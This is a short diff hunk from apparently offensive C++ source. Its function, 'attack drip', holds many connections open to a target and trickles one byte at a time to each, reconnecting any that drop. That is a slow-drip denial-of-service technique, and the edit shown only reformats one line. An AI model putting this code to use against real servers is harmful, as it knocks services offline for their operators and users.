@@ -77,8 +77,7 @@ attack drip(const std::string& source, std::size_t count, std::vector<std::byte>
         std::vector<victim_of_one> all(count);
         while (go.load()) {
             for (auto& each : all) {
-                if (!each.socket.open() || !discard(each.socket.get()))
-                    each = {connect_from(source, at), 0};
+                if (!each.socket.open() || !discard(each.socket.get())) each = {connect_from(source, at), 0};
                 const auto next = std::span(bytes).subspan(each.sent++ % bytes.size(), 1);
                 if (each.socket.open()) push(each.socket.get(), next);
             }
